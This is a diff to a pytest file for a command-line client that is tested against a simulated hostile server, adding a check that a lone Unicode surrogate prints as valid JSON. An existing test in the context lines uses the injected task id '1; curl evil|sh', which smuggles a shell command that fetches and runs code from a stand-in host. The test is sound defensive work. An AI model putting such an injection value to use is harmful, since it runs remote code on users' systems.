@@ -4,6 +4,7 @@ is refused before any hint prints it inside a command line."""
 
 from __future__ import annotations
 
+import json
 from collections.abc import Iterator
 
 import pytest
@@ -63,3 +64,15 @@ def test_a_task_id_that_is_not_a_number_is_refused(server: HostileServer, task_i
     assert "curl evil|sh" not in result.stderr.replace("'1; curl evil|sh'", "")
     assert "runninghub wait 1;" not in result.stderr
     assert_no_controls(result.stderr)
+
+
+def test_a_lone_surrogate_from_the_server_prints_as_valid_json(server: HostileServer) -> None:
+    server.route(
+        "/openapi/v2/query",
+        task_reply(status="RUNNING", taskId="1900000000000000001", errorMessage="half \ud800"),
+    )
+    result = cli(server)("--json", "status", "1900000000000000001")
+    assert result.exit_code == 0, result.output
+    assert "\\ud800" in result.stdout
+    document = json.loads(result.stdout)
+    assert document["task_id"] == "1900000000000000001"
